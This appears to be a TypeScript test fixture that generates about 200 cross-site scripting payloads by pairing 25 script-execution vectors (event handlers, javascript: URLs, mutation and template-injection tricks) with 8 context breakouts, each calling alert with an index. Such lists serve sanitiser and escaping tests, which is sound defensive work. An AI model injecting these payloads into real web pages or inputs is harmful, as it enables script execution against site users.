const vectors: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<style>@import "data:text/css,*{x:expression(${call})}";</style>`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<template><script>${call}</script></template><img src onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<form><button formaction="javascript:${call}" autofocus onfocus=${call}>x`,
  (call) => `javascript:${call}`,
  (call) => `\${${call}}{{constructor.constructor('${call}')()}}`,
  (call) => `<IMG SRC=x ONERROR="${call}">`,
];
const breakouts: readonly string[] = ["", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "`});//"];

/** Texts that run as script where they are not escaped, each calling `alert` with its own number: 25 ways to run, each
 *  behind 8 ways out of where it stands. */
export const attacks: readonly string[] = breakouts.flatMap((breakout, group) =>
  vectors.map((vector, place) => breakout + vector(`alert(${group * vectors.length + place})`)),
);
